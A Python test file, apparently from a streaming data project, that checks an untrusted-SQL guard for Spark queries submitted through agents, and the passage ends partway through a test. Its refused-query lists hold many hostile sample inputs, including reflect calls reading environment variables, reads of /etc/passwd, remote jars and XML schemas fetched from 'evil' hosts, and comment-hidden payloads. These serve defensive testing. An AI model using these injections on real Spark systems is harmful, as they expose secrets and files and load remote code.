"""Untrusted SQL: what comes through an agent can read tables, and reaches nothing of the worker's machine."""

import os
import re
import zipfile
from contextlib import suppress
from pathlib import Path
from typing import Any

import pyspark
import pytest
from py4j.protocol import Py4JJavaError  # type: ignore[import-untyped]
from pyspark.errors import AnalysisException, ParseException
from pyspark.sql import SparkSession

from streamhouse.errors import BadSql, Rejected, StatementError, StreamhouseError
from streamhouse.spark.connectors import ReadContext
from streamhouse.spark.query.catalog import Catalog
from streamhouse.spark.query.resolver import analyze, resolve
from streamhouse.spark.query.untrusted_functions import FUNCTIONS, OPTIONS, REFUSED, TABLE_FUNCTIONS
from streamhouse.spark.query.untrusted_sql import EXPRESSIONS, check_untrusted
from streamhouse.spark.worker.query_executor import QueryCaller, QueryExecutor, QueryRequest, SqlLimits
from tests.spark.query.fakes import FakeBackend, topic

pytestmark = pytest.mark.spark


JSON_SCHEMA = (
    '{"type":"struct","fields":[{"name":"a","type":"string","nullable":true,'
    '"metadata":{"EXISTS_DEFAULT":"current_user()","CURRENT_DEFAULT":"current_user()"}}]}'
)
"""The default is evaluated when the query is analysed, whatever function it calls."""


@pytest.mark.parametrize(
    "text",
    [
        "SELECT 1",
        "(SELECT 1) UNION (SELECT 2)",
        "with a as (select 1) select * from a",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
        "SELECT transform(array(1), x -> x + 1)",
        "SELECT * FROM a JOIN b USING (id)",
        "SELECT 'reflect', 'INSERT INTO', insert FROM a",
        "-- insert\nDESCRIBE orders",
        "DESCRIBE QUERY SELECT a FROM b",
        "DESCRIBE FUNCTION abs",
        "SHOW FUNCTIONS",
        "SHOW COLUMNS IN orders",
        "EXPLAIN SELECT 1",
        "EXPLAIN FORMATTED WITH a AS (SELECT 1) SELECT * FROM a",
        "VALUES (1, 'a'), (2, upper('b'))",
        "TABLE orders",
        "SELECT a, count(*) FROM STREAM(t) GROUP BY a HAVING count(*) > 1 ORDER BY a LIMIT 3 OFFSET 1",
        "SELECT a, grouping(a), sum(b) FROM t GROUP BY ROLLUP (a)",
        "SELECT window(at, '1 minute') AS w, sum(x) FROM t GROUP BY window(at, '1 minute')",
        "SELECT row_number() OVER w, sum(x) OVER (PARTITION BY y) FROM t WINDOW w AS (ORDER BY x)",
        "SELECT * FROM t WHERE a IN (SELECT b FROM u) AND EXISTS (SELECT 1 FROM v) AND c = (SELECT max(d) FROM w)",
        "SELECT * FROM a, LATERAL (SELECT a.x + 1)",
        "SELECT * FROM a LATERAL VIEW explode(x) t AS y",
        "SELECT * FROM range(10)",
        "SELECT * FROM a TABLESAMPLE (3 ROWS)",
        "SELECT * FROM a PIVOT (sum(x) FOR y IN (1, 2))",
        "SELECT * FROM a UNPIVOT (v FOR n IN (x, y))",
        "SELECT * FROM a EXCEPT SELECT * FROM b INTERSECT SELECT * FROM c",
        "FROM a |> WHERE x > 1 |> AGGREGATE sum(x) AS s GROUP BY y",
        "SELECT get_json_object(v, '$.a'), from_json(v, 'a INT'), CAST(x AS DECIMAL(9, 2)), x:y.z FROM a",
        "SELECT /*+ BROADCAST(b) */ * FROM a JOIN b ON a.x = b.y",
        "SELECT system.builtin.abs(-1), uuid(), version()",
        "SELECT no_such_function(1)",
        "SELECT * FROM IDENTIFIER('orders')",
        "SELECT * FROM `shop.orders`",
        "SELECT from_xml(v, 'a INT', map('mode', 'PERMISSIVE')), from_csv(v, 'a INT', map('sep', ';')) FROM a",
        "SELECT schema_of_xml('<p><a>1</a></p>'), to_xml(named_struct('a', 1))",
        "SELECT builtin.abs(-1)",
        "SELECT user FROM a",
        "SELECT to_json(x, map('pretty', 'true')), schema_of_json('{}', map('allowComments', 'true')) FROM a",
        "SELECT * FROM UNNEST(array(1)), JSON_TABLE('[1]', '$[*]' COLUMNS (a INT PATH '$'))",
        "SELECT trim(BOTH 'x' FROM y), overlay(a PLACING 'b' FROM 1), x IS DISTINCT FROM y, x::int, v:a.b[0] FROM t",
        "SELECT * EXCEPT (a), `(a|b)?+.+`, first(x IGNORE NULLS), timestampadd(HOUR, 1, at) FROM t GROUP BY ALL",
        "SELECT x FROM a QUALIFY row_number() OVER (PARTITION BY x ORDER BY y) = 1",
        "SELECT sum(x) OVER w FROM a WINDOW w AS (PARTITION BY upper(y) ORDER BY x)",
        "SELECT * EXCEPT (x) FROM a LIMIT ALL",
        "SELECT variant_get(parse_json(v), '$.a', 'INT') FROM a",
        "FROM a |> SET x = x + 1 |> DROP y |> EXTEND x * 2 AS z",
        "SELECT from_json(v, schema_of_json('{\"a\": 1}')), from_csv(v, schema_of_csv('1,2')) FROM a",
        "SELECT from_json(v, 'STRUCT<a: INT, b: ARRAY<STRING>>'), from_json(v, ' a INT COMMENT \"x\"') FROM a",
    ],
)
def test_queries_may_be_asked(spark: SparkSession, text: str) -> None:
    check_untrusted(spark, text)


@pytest.mark.parametrize(
    "text",
    [
        "SET spark.sql.ansi.enabled = false",
        "RESET",
        "ADD JAR '/tmp/x.jar'",
        "LIST JARS",
        "EXPLAIN ADD JAR '/tmp/x.jar'",
        "EXPLAIN CREATE TABLE t USING text OPTIONS (path '/etc/passwd')",
        "EXPLAIN EXTENDED CREATE TEMPORARY VIEW t USING text OPTIONS (path '/etc/passwd')",
        "EXPLAIN EXPLAIN ADD JAR '/tmp/x.jar'",
        "EXPLAIN INSERT INTO b SELECT 1",
        "EXPLAIN SELECT reflect('java.lang.System', 'getenv')",
        "DESCRIBE QUERY SELECT reflect('java.lang.System', 'getenv')",
        "CREATE TABLE t USING text OPTIONS (path '/etc/passwd')",
        "CREATE OR REPLACE TEMPORARY VIEW t USING text OPTIONS (path '/etc/passwd')",
        "CREATE FUNCTION f AS 'X' USING JAR '/tmp/x.jar'",
        "CREATE DATABASE d LOCATION '/tmp/x'",
        "LOAD DATA LOCAL INPATH '/etc/passwd' INTO TABLE t",
        "INSERT OVERWRITE DIRECTORY '/tmp/x' SELECT 1",
        "INSERT INTO b SELECT 1",
        "WITH a AS (SELECT 1) INSERT INTO b SELECT * FROM a",
        "FROM a INSERT INTO b SELECT * INSERT INTO c SELECT *",
        "MERGE INTO a USING b ON a.x = b.x WHEN MATCHED THEN DELETE",
        "DELETE FROM a",
        "UPDATE a SET x = 1",
        "TRUNCATE TABLE a",
        "DROP TABLE a",
        "CACHE TABLE x AS SELECT 1",
        "REFRESH '/etc'",
        "ANALYZE TABLE a COMPUTE STATISTICS",
        "USE other",
        "CALL anything()",
        "DECLARE VARIABLE x INT",
        "SHOW CREATE TABLE a",
        "SELECT reflect('java.lang.System', 'getenv')",
        "SELECT `Java_Method`('java.lang.System', 'getenv')",
        "SELECT system.builtin.reflect('java.lang.System', 'getenv')",
        "SELECT try_reflect('java.lang.System', 'getenv')",
        "VALUES (reflect('java.lang.System', 'getenv'))",
        "SELECT * FROM a WHERE x IN (SELECT reflect('java.lang.System', 'getenv'))",
        "SELECT (SELECT max(reflect('java.lang.System', 'getenv')) FROM b) FROM a",
        "WITH a AS (SELECT reflect('java.lang.System', 'getenv') AS x) SELECT * FROM a",
        "SELECT transform(array(1), x -> reflect('java.lang.System', 'getenv'))",
        "SELECT * FROM a, LATERAL (SELECT reflect('java.lang.System', 'getenv'))",
        "SELECT sum(x) OVER (ORDER BY reflect('java.lang.System', 'getenv')) FROM a",
        "FROM a |> EXTEND reflect('java.lang.System', 'getenv') AS x",
        "SELECT from_protobuf(x, 'Message', '/etc/passwd') FROM a",
        "SELECT * FROM python_worker_logs()",
        "SELECT IDENTIFIER('ref' || 'lect')('java.lang.System', 'getenv')",
        "SELECT current_user()",
        "EXECUTE IMMEDIATE 'SELECT 1'",
        "SELECT TRANSFORM (id) USING 'cat' FROM a",
        'SELECT TRANSFORM (id) USING /* here */ "cat" FROM a',
        "SELECT * FROM (SELECT TRANSFORM (id) USING 'cat' FROM a)",
        "BEGIN SELECT 1; END",
        "SELECT * FROM text.`/etc/passwd`",
        "SELECT * FROM STREAM(text.`/etc/passwd`)",
        "SELECT * FROM csv.`/etc/passwd` AS t JOIN orders ON true",
        "SELECT * FROM json.`file:///etc/passwd`",
        "SELECT * FROM binaryFile.`/etc/passwd`",
        "SELECT * FROM `parquet`.`s3a://bucket/key`",
        "SELECT * FROM delta.`/x`",
        "SELECT * FROM streamhouse.`orders`",
        "SELECT * FROM jdbc.`jdbc:postgresql://evil/x`",
        "TABLE text.`/etc/passwd`",
        "SELECT (SELECT max(value) FROM text.`/etc/passwd`)",
        "WITH a AS (SELECT * FROM text.`/etc/passwd`) SELECT * FROM a",
        "SELECT * FROM spark_catalog.default.secret",
        "SELECT * FROM default.secret",
        "SELECT * FROM global_temp.secret",
        "SELECT * FROM system.information_schema.tables",
        "DESCRIBE default.secret",
        "DESCRIBE EXTENDED text.`/etc/passwd`",
        "DESCRIBE EXTENDED orders AS JSON",
        "DESCRIBE DATABASE default",
        "SHOW COLUMNS IN default.secret",
        "SHOW TABLES",
        "SHOW TABLES IN global_temp",
        "SHOW TABLE EXTENDED LIKE '*'",
        "SHOW VIEWS",
        "SHOW DATABASES",
        "SHOW CATALOGS",
        "SHOW TBLPROPERTIES orders",
        "SHOW PARTITIONS orders",
        "SHOW FUNCTIONS IN global_temp",
        "SELECT * FROM orders VERSION AS OF 1",
        "SELECT spark_catalog.default.f(1)",
        "SELECT default.f(1)",
        "SELECT * FROM spark_catalog.default.f(1)",
        "SELECT * FROM read_files('/etc')",
        "SELECT from_xml(v, 'a INT', map('rowValidationXSDPath', '/etc/passwd')) FROM a",
        "SELECT from_xml(v, 'a INT', map('ROWVALIDATIONXSDPATH', 'http://evil/x.xsd')) FROM a",
        "SELECT from_xml(v, 'a INT', map(concat('row', 'ValidationXSDPath'), '/etc/passwd')) FROM a",
        "SELECT from_xml(v, 'a INT', str_to_map('rowValidationXSDPath:/etc/passwd')) FROM a",
        "SELECT schema_of_xml('<a/>', map('rowValidationXSDPath', '/etc/passwd'))",
        "SELECT from_avro(v, 'int', map('avroSchemaUrl', 'file:///etc/passwd')) FROM a",
        "SELECT input_file_name()",
        "SELECT session_user()",
        "SELECT current_catalog()",
        "SET VAR x = 1",
        "SET TIME ZONE 'UTC'",
        "SET spark.sql.runSQLOnFiles",
        "SET",
        "ADD FILE '/etc/passwd'",
        "LIST FILES",
        "UNCACHE TABLE orders",
        "CLEAR CACHE",
        "REFRESH TABLE orders",
        "CREATE TEMPORARY FUNCTION f AS 'java.lang.Runtime' USING JAR 'http://evil/x.jar'",
        "CREATE FUNCTION f() RETURNS STRING RETURN java_method('java.lang.System', 'getenv')",
        "CREATE TEMPORARY VIEW v AS SELECT 1",
        "CREATE GLOBAL TEMPORARY VIEW v AS SELECT 1",
        "ALTER TABLE orders SET LOCATION '/etc'",
        "CREATE TABLE x AS SELECT 1",
        "CREATE TABLE x LIKE orders LOCATION '/tmp/x'",
        "INSERT OVERWRITE LOCAL DIRECTORY '/tmp/x' USING text SELECT 'x'",
        "INSERT INTO text.`/tmp/x` SELECT 'x'",
        "EXPLAIN SELECT * FROM text.`/etc/passwd`",
        "EXPLAIN EXECUTE IMMEDIATE 'SELECT 1'",
        "SELECT IDENTIFIER(concat('java', '_method'))('java.lang.System', 'getenv')",
        "SELECT * FROM IDENTIFIER('text.`/etc/passwd`')",
        "SELECT * FROM IDENTIFIER(concat('global', '_temp.secret'))",
        "SELECT aggregate(array(1), 0, (a, x) -> a + length(reflect('java.lang.System', 'getenv')))",
        "SELECT count(*) FILTER (WHERE reflect('java.lang.System', 'getenv') IS NULL) FROM a",
        "SELECT * FROM a ORDER BY reflect('java.lang.System', 'getenv')",
        "SELECT * FROM a LIMIT length(reflect('java.lang.System', 'getenv'))",
        "SELECT * FROM a JOIN b ON reflect('java.lang.System', 'getenv') = b.x",
        "SELECT * FROM a PIVOT (max(reflect('java.lang.System', 'getenv')) FOR y IN (1))",
        "SELECT x FROM a GROUP BY x HAVING reflect('java.lang.System', 'getenv') IS NOT NULL",
        "SELECT * FROM explode(array(reflect('java.lang.System', 'getenv')))",
        "SELECT * FROM a LATERAL VIEW explode(array(reflect('java.lang.System', 'getenv'))) t AS y",
        "SELECT * FROM a WHERE EXISTS (SELECT * FROM (SELECT reflect('java.lang.System', 'getenv')) b)",
        "DROP DATABASE default CASCADE",
        "DROP TEMPORARY FUNCTION f",
        "MSCK REPAIR TABLE a",
        "SELECT '${env:PATH}'",
        "SELECT ${spark.app.id}",
        "SELECT 1 AS `${system:user.home}`",
        "SELECT DATE '${system:user.home}'",
        "SELECT 1 /* ${env:HOME} */",
        "SELECT from_xml('<a/>', 'b STRING', options => map('rowValidationXSDPath', '/etc/passwd'))",
        "SELECT from_xml(options => map('rowValidationXSDPath', '/etc/passwd'), xml => '<a/>', schema => 'b INT')",
        "SELECT * FROM STREAM `text`.`/etc`",
        "FROM a |> AS o |> JOIN text.`/etc/passwd` AS t ON true |> SELECT t.*",
        "FROM a |> UNION ALL (TABLE csv.`/etc/passwd`)",
        "EXPLAIN CODEGEN SELECT input_file_name() FROM a",
        "EXPLAIN FORMATTED SELECT * FROM (TABLE text.`/etc/passwd`)",
        "SELECT raise_error(java_method('java.lang.System', 'getProperty', 'user.home'))",
        "SELECT * FROM json_tuple((SELECT max(value) FROM text.`/etc/passwd`), 'a')",
        "SELECT * FROM range((SELECT count(*) FROM text.`/etc/passwd`))",
        "SELECT * FROM my_udtf(TABLE(SELECT reflect('java.lang.System', 'getenv')))",
        "SELECT `system`.`session`.`f`(1)",
        "SHOW COLUMNS IN a IN text",
        "DESCRIBE text.`/etc/passwd` value",
        """SELECT xpath_string('<!DOCTYPE a SYSTEM "http://evil/x.dtd"><a/>', 'a')""",
        "SELECT xpath(v, 'a/b') FROM a",
        "SELECT system.builtin.xpath_int(v, 'a/b') FROM a",
        "SELECT transform(array('<a/>'), x -> xpath_boolean(x, 'a'))",
        "FROM a |> SET x = reflect('java.lang.System', 'getenv')",
        "FROM a |> SET x = 1, y = (SELECT max(value) FROM text.`/etc/passwd`)",
        "FROM a |> EXTEND 1 AS x |> SET x = array(1, length(input_file_name()))[0]",
        "SELECT sum(x) OVER w FROM a WINDOW w AS (PARTITION BY reflect('java.lang.System', 'getenv'))",
        "SELECT sum(x) OVER w FROM a WINDOW v AS (ORDER BY y), w AS (ORDER BY (SELECT max(value) FROM csv.`/etc`))",
        "SELECT 1 FROM a WINDOW unused AS (ORDER BY java_method('java.lang.System', 'getenv'))",
        "SELECT x FROM a QUALIFY reflect('java.lang.System', 'getenv') = 'x'",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT reflect('a', 'b') FROM r) SELECT * FROM r",
        f"SELECT from_json(v, '{JSON_SCHEMA}') FROM a",
        f"SELECT from_json(v, '  {JSON_SCHEMA}') FROM a",
        f"SELECT from_csv(v, '{JSON_SCHEMA}') FROM a",
        f"SELECT from_xml(v, '{JSON_SCHEMA}') FROM a",
        f"SELECT from_json(v, concat('', '{JSON_SCHEMA}')) FROM a",
        f"SELECT from_json(v, schema => '{JSON_SCHEMA}') FROM a",
        f"SELECT from_json(v, '{JSON_SCHEMA}' COLLATE UTF8_LCASE) FROM a",
        f"SELECT system.builtin.from_json(v, '{JSON_SCHEMA}') FROM a",
        "SELECT from_json(v, (SELECT 'a INT')) FROM a",
        "SELECT * FROM orders WITH ('path' = '/etc/passwd')",
        "SELECT * FROM STREAM orders WITH ('agents' = 'evil:1')",
        "SELECT * FROM a LATERAL VIEW default.explode(x) t AS y",
        "DESCRIBE FUNCTION default.f",
        "SELECT * FROM orders CHANGES FROM VERSION 1",
        "SELECT :x, ?",
        "SELECT from_json(v, 'a INT', map('no_such_option', 'x')) FROM a",
        "SELECT to_json(x, map('mode', concat('FAIL', 'FAST'))) FROM a",
        "SELECT no_such_function(reflect('java.lang.System', 'getenv'))",
        f"SELECT try_variant_get(parse_json(v), '$', '{JSON_SCHEMA}') FROM a",
    ],
)
def test_what_reaches_further_is_refused(spark: SparkSession, text: str) -> None:
    with pytest.raises(StatementError, match="through agents") as refused:
        check_untrusted(spark, text)
    assert "queries are allowed" in refused.value.hint


@pytest.mark.parametrize("text", ["OPEN c", "FETCH c INTO x", "DECLARE c CURSOR FOR SELECT 1"])
def test_a_statement_of_a_script_is_reported_as_one(spark: SparkSession, text: str) -> None:
    with pytest.raises(StatementError, match="a statement of a script"):
        check_untrusted(spark, text)


@pytest.mark.parametrize("text", ["", "SELEC 1", "SELECT * FROM a b c d"])
def test_what_is_no_sql_is_sparks_to_complain_of(spark: SparkSession, text: str) -> None:
    with pytest.raises(ParseException):
        check_untrusted(spark, text)


def test_every_function_of_this_spark_was_decided_on(spark: SparkSession) -> None:
    """A new release may bring functions that nobody has looked at; until then they are refused."""
    state = spark._jsparkSession.sessionState()
    functions, tables = (
        {listed.apply(number).funcName() for number in range(listed.size())}
        for listed in (state.functionRegistry().listFunction(), state.tableFunctionRegistry().listFunction())
    )
    shown = {row[0] for row in spark.sql("SHOW SYSTEM FUNCTIONS").collect()}
    assert shown - functions - tables == {"!=", "<>", "||", "case"}
    assert not FUNCTIONS & REFUSED.keys()
    assert functions | tables == FUNCTIONS | TABLE_FUNCTIONS | REFUSED.keys()


def test_a_function_that_someone_registered_is_refused(spark: SparkSession) -> None:
    spark.udf.register("mine", lambda: "x")
    try:
        with pytest.raises(StatementError, match="mine can't be used through agents: it isn't known"):
            check_untrusted(spark, "SELECT mine()")
    finally:
        spark.sql("DROP TEMPORARY FUNCTION mine")


def test_every_option_of_texts_was_decided_on(spark: SparkSession) -> None:
    jvm: Any = spark._jvm
    names = ("catalyst.json.JSONOptions", "catalyst.csv.CSVOptions", "catalyst.xml.XmlOptions", "avro.AvroOptions")
    options: set[str] = set()
    for name in names:
        kind = jvm.java.lang.Class.forName(f"org.apache.spark.sql.{name}$")
        listed = kind.getField("MODULE$").get(None).getAllOptions().toSeq()
        options |= {listed.apply(number).lower() for number in range(listed.size())}
    assert options - OPTIONS == {
        *("avroschemaurl", "rowvalidationxsdpath"),  # they name a file
        *("avroschema", "uselegacyxmlparser", "useunsaferow"),  # other parsers than those that were looked at
        *("codec", "columnpruning", "compression", "extension", "ignoreextension", "inputbuffersize"),  # of files
    }
    assert options >= OPTIONS


def test_every_expression_of_sparks_parser_was_decided_on(spark: SparkSession) -> None:
    """Its classes are those that the parser's own code names."""
    jvm: Any = spark._jvm
    named: set[str] = set()
    for jar in sorted((Path(pyspark.__file__).parent / "jars").glob("spark-*.jar")):
        with zipfile.ZipFile(jar) as files:
            for name in files.namelist():
                if re.search(r"/sql/(catalyst/parser|execution)/(Spark)?(Sql)?(DataType)?AstBuilder.*\.class$", name):
                    named.update(re.findall(r"org/apache/spark/sql/[\w/$]+", files.read(name).decode("latin-1")))
    base = jvm.java.lang.Class.forName("org.apache.spark.sql.catalyst.expressions.Expression")
    loader = jvm.java.lang.Thread.currentThread().getContextClassLoader()
    classes = set()
    for name in named:
        if "/expressions/" in name or "/plans/logical/" in name or "/analysis/" in name:
            with suppress(Py4JJavaError):
                each = loader.loadClass(name.replace("/", "."))
                if base.isAssignableFrom(each):
                    classes.add(str(each.getSimpleName()).removesuffix("$"))
    assert classes - EXPRESSIONS == {
        *("BinaryExpression", "Expression", "UnaryExpression"),  # abstract ones
        *("CurrentPath", "CurrentUser"),
        *("ExpressionWithUnresolvedIdentifier", "NamedParameter", "PosParameter", "UnresolvedCursor"),
        "FunctionTableSubqueryArgumentExpression",  # of table functions that users add
        *("AlterColumnSpec", "CheckConstraint", "ColumnDefinition", "DefaultValueExpression", "ForeignKeyConstraint"),
        *("GeneratedColumnExpression", "OptionList", "PrimaryKeyConstraint", "QualifiedColType", "UniqueConstraint"),
        *("UnresolvedFieldName", "UnresolvedFieldPosition", "UnresolvedPartitionSpec", "UnresolvedTableSpec"),
        *("Assignment", "DeleteAction", "InsertAction", "InsertReplaceCriteria", "InsertReplaceOn"),
        *("InsertReplaceUsing", "InsertReplaceWhere", "InsertStarAction", "MergeAction", "UpdateAction"),
        "UpdateStarAction",
    }
    assert classes >= EXPRESSIONS


ALLOWED = {
    "DescribeFunction": "DESCRIBE FUNCTION abs",
    "DescribeQuery": "DESCRIBE QUERY SELECT 1",
    "DescribeRelation": "DESCRIBE orders",
    "Explain": "EXPLAIN SELECT 1",
    "ShowColumns": "SHOW COLUMNS IN orders",
    "ShowFunctions": "SHOW FUNCTIONS",
    "StatementDefault": "SELECT 1",
}
REFUSED_STATEMENTS = {
    "AddTableColumns": "ALTER TABLE a ADD COLUMNS (x INT)",
    "AddTableConstraint": "ALTER TABLE a ADD CONSTRAINT c CHECK (x > 0)",
    "AddTablePartition": "ALTER TABLE a ADD PARTITION (x = 1) LOCATION '/etc'",
    "AlterClusterBy": "ALTER TABLE a CLUSTER BY (x)",
    "AlterTableAlterColumn": "ALTER TABLE a ALTER COLUMN x COMMENT 'y'",
    "AlterTableCollation": "ALTER TABLE a DEFAULT COLLATION UTF8_LCASE",
    "AlterViewQuery": "ALTER VIEW a AS SELECT 1",
    "AlterViewSchemaBinding": "ALTER VIEW a WITH SCHEMA BINDING",
    "Analyze": "ANALYZE TABLE a COMPUTE STATISTICS",
    "AnalyzeTables": "ANALYZE TABLES COMPUTE STATISTICS",
    "CacheTable": "CACHE TABLE x AS SELECT 1",
    "Call": "CALL spark_catalog.system.rollback_to_snapshot('a', 1)",
    "ClearCache": "CLEAR CACHE",
    "CloseCursorStatement": "CLOSE c",
    "CommentColumn": "COMMENT ON COLUMN a.x IS 'y'",
    "CommentNamespace": "COMMENT ON DATABASE default IS 'y'",
    "CommentTable": "COMMENT ON TABLE a IS 'y'",
    "CreateFlowAutoCdc": "CREATE FLOW f AS AUTO CDC INTO a FROM b KEYS (x) SEQUENCE BY y",
    "CreateFunction": "CREATE FUNCTION f AS 'X' USING JAR 'http://evil/x.jar'",
    "CreateIndex": "CREATE INDEX i ON a (x)",
    "CreateMetricView": "CREATE VIEW m WITH METRICS LANGUAGE YAML AS $$x$$",
    "CreateNamespace": "CREATE DATABASE d LOCATION '/tmp/x'",
    "CreatePipelineDataset": "CREATE MATERIALIZED VIEW v AS SELECT 1",
    "CreatePipelineInsertIntoFlow": "CREATE FLOW f AS INSERT INTO a BY NAME SELECT 1",
    "CreateTable": "CREATE TABLE t USING text OPTIONS (path '/etc/passwd')",
    "CreateTableLike": "CREATE TABLE x LIKE orders LOCATION '/tmp/x'",
    "CreateTempViewUsing": "CREATE TEMPORARY VIEW t USING text OPTIONS (path '/etc/passwd')",
    "CreateUserDefinedFunction": "CREATE FUNCTION f() RETURNS INT RETURN 1",
    "CreateVariable": "DECLARE VARIABLE x INT",
    "CreateView": "CREATE VIEW v AS SELECT 1",
    "DeclareCursorStatement": "DECLARE c CURSOR FOR SELECT 1",
    "DescribeNamespace": "DESCRIBE DATABASE default",
    "DescribeProcedure": "DESCRIBE PROCEDURE p",
    "DmlStatement": "INSERT OVERWRITE DIRECTORY '/tmp/x' USING text SELECT 'x'",
    "DropFunction": "DROP FUNCTION f",
    "DropIndex": "DROP INDEX i ON a",
    "DropNamespace": "DROP DATABASE default CASCADE",
    "DropTable": "DROP TABLE a",
    "DropTableColumns": "ALTER TABLE a DROP COLUMN x",
    "DropTableConstraint": "ALTER TABLE a DROP CONSTRAINT c",
    "DropTablePartitions": "ALTER TABLE a DROP PARTITION (x = 1)",
    "DropVariable": "DROP TEMPORARY VARIABLE x",
    "DropView": "DROP VIEW v",
    "FailNativeCommand": "CREATE ROLE r",
    "FailSetRole": "SET ROLE admin",
    "FetchCursorStatement": "FETCH c INTO x",
    "HiveChangeColumn": "ALTER TABLE a CHANGE COLUMN x y INT",
    "HiveReplaceColumns": "ALTER TABLE a REPLACE COLUMNS (x INT)",
    "LoadData": "LOAD DATA LOCAL INPATH '/etc/passwd' INTO TABLE t",
    "ManageResource": "ADD JAR '/tmp/x.jar'",
    "OpenCursorStatement": "OPEN c",
    "RecoverPartitions": "ALTER TABLE a RECOVER PARTITIONS",
    "RefreshFunction": "REFRESH FUNCTION f",
    "RefreshResource": "REFRESH '/etc'",
    "RefreshTable": "REFRESH TABLE a",
    "RenameTable": "ALTER TABLE a RENAME TO b",
    "RenameTableColumn": "ALTER TABLE a RENAME COLUMN x TO y",
    "RenameTablePartition": "ALTER TABLE a PARTITION (x = 1) RENAME TO PARTITION (x = 2)",
    "RepairTable": "MSCK REPAIR TABLE a",
    "ReplaceTable": "REPLACE TABLE t USING text OPTIONS (path '/etc/passwd')",
    "ResetConfiguration": "RESET",
    "ResetQuotedConfiguration": "RESET `spark.sql.ansi.enabled`",
    "SetCatalog": "SET CATALOG c",
    "SetConfiguration": "SET spark.sql.ansi.enabled = false",
    "SetNamespaceCollation": "ALTER DATABASE default DEFAULT COLLATION UTF8_LCASE",
    "SetNamespaceLocation": "ALTER DATABASE default SET LOCATION '/etc'",
    "SetNamespaceProperties": "ALTER DATABASE default SET DBPROPERTIES (x = 'y')",
    "SetPath": "SET PATH = a.b",
    "SetQuotedConfiguration": "SET `spark.sql.ansi.enabled` = `false`",
    "SetTableLocation": "ALTER TABLE a SET LOCATION '/etc'",
    "SetTableProperties": "ALTER TABLE a SET TBLPROPERTIES (x = 'y')",
    "SetTableSerDe": "ALTER TABLE a SET SERDE 'X'",
    "SetTimeZone": "SET TIME ZONE 'UTC'",
    "SetVariable": "SET VAR x = 1",
    "ShowCatalogs": "SHOW CATALOGS",
    "ShowCollations": "SHOW COLLATIONS",
    "ShowCreateTable": "SHOW CREATE TABLE a",
    "ShowCurrentNamespace": "SHOW CURRENT NAMESPACE",
    "ShowNamespaces": "SHOW DATABASES",
    "ShowPartitions": "SHOW PARTITIONS a",
    "ShowProcedures": "SHOW PROCEDURES",
    "ShowTableExtended": "SHOW TABLE EXTENDED LIKE '*'",
    "ShowTables": "SHOW TABLES IN global_temp",
    "ShowTblProperties": "SHOW TBLPROPERTIES a",
    "ShowViews": "SHOW VIEWS",
    "TruncateTable": "TRUNCATE TABLE a",
    "UncacheTable": "UNCACHE TABLE a",
    "UnsetNamespaceProperties": "ALTER DATABASE default UNSET DBPROPERTIES (x)",
    "UnsetTableProperties": "ALTER TABLE a UNSET TBLPROPERTIES (x)",
    "Use": "USE other",
    "UseNamespace": "USE DATABASE other",
    "VisitExecuteImmediate": "EXECUTE IMMEDIATE 'SELECT 1'",
}


def test_every_kind_of_statement_of_sparks_grammar_was_decided_on(spark: SparkSession) -> None:
    """Each by an example, of which Spark's own parser says that it is one of this kind."""
    jvm: Any = spark._jvm
    antlr, parsers = jvm.org.antlr.v4.runtime, jvm.org.apache.spark.sql.catalyst.parser
    prefix = "org.apache.spark.sql.catalyst.parser.SqlBaseParser"

    def kind(text: str) -> str:
        signs = parsers.UpperCaseCharStream(antlr.CharStreams.fromString(text))
        tree = parsers.SqlBaseParser(antlr.CommonTokenStream(parsers.SqlBaseLexer(signs)))
        return str(tree.singleStatement().getChild(0).getClass().getSimpleName())

    bases = [jvm.java.lang.Class.forName(f"{prefix}${name}Context") for name in ("Statement", "SetResetStatement")]
    kinds = {
        str(each.getSimpleName()).removesuffix("Context")
        for each in jvm.java.lang.Class.forName(prefix).getDeclaredClasses()
        if any(base.isAssignableFrom(each) and base != each for base in bases)
    }
    assert kinds == ALLOWED.keys() | REFUSED_STATEMENTS.keys()
    wrong = []
    for name, text in (ALLOWED | REFUSED_STATEMENTS).items():
        try:
            check_untrusted(spark, text)
            is_allowed = True
        except (StatementError, ParseException):
            is_allowed = False
        if kind(text) != f"{name}Context" or is_allowed != (name in ALLOWED):
            wrong.append((name, kind(text), is_allowed))
    assert not wrong


HIDDEN = "SELECT reflect('java.lang.System', 'getProperty', 'user.home')"


@pytest.mark.parametrize(
    "text",
    [
        f"-- \r{HIDDEN} UNION ALL -- \nSELECT 1",
        "-- \\\nSELECT '\n" + HIDDEN.replace("'", '"') + " --'",
        f"EXPLAIN -- \rSELECT 1 -- \\\n{HIDDEN}",
        f"EXPLAIN /* a */ -- \r{HIDDEN}",
    ],
)
def test_what_is_judged_is_what_is_run(spark: SparkSession, text: str) -> None:
    """A comment ends where Spark says that it ends, and hides nothing."""
    answering = QueryExecutor(spark, agents="127.0.0.1:1", limits=SqlLimits())
    try:
        reply = answering.execute(QueryRequest(sql=text, caller=QueryCaller()), "hidden")
        results = str([batch.to_pylist() for batch in reply.batches])
    except StreamhouseError as error:
        results = str(error)
    assert os.path.expanduser("~") not in results
    assert "reflect(" not in results


@pytest.mark.parametrize("caller", [None, QueryCaller()])
@pytest.mark.parametrize(
    "text",
    [
        "DROP TABLE t",
        "DROP VIEW IF EXISTS v",
        "CREATE TABLE t WITH (connector = 'topic')",
        "CREATE PIPELINE p AS INSERT INTO t SELECT 1 AS n",
        "CREATE MATERIALIZED VIEW v AS SELECT 1 AS n",
        "INSERT INTO t SELECT 1 AS n",
        "WITH a AS (SELECT 1 AS n) INSERT INTO t SELECT n FROM a",
        "SET x = 1",
    ],
)
def test_a_read_only_request_changes_nothing(spark: SparkSession, text: str, caller: QueryCaller | None) -> None:
    """It is rejected before agents are asked: here there are none."""
    answering = QueryExecutor(spark, agents="127.0.0.1:1", limits=SqlLimits())
    with pytest.raises((Rejected, BadSql)):
        answering.execute(QueryRequest(sql=text, caller=caller, read_only=True), "changes")
    reply = answering.execute(QueryRequest(sql="SELECT 1 AS n", caller=caller, read_only=True), "reads")
    assert [batch.to_pylist() for batch in reply.batches] == [[{"n": 1}]]


def test_a_table_that_the_workers_user_made_is_nobody_elses(spark: SparkSession) -> None:
    spark.sql("CREATE DATABASE IF NOT EXISTS streamhouse_guests")
    spark.sql("CREATE OR REPLACE GLOBAL TEMPORARY VIEW shared AS SELECT 1 AS x")
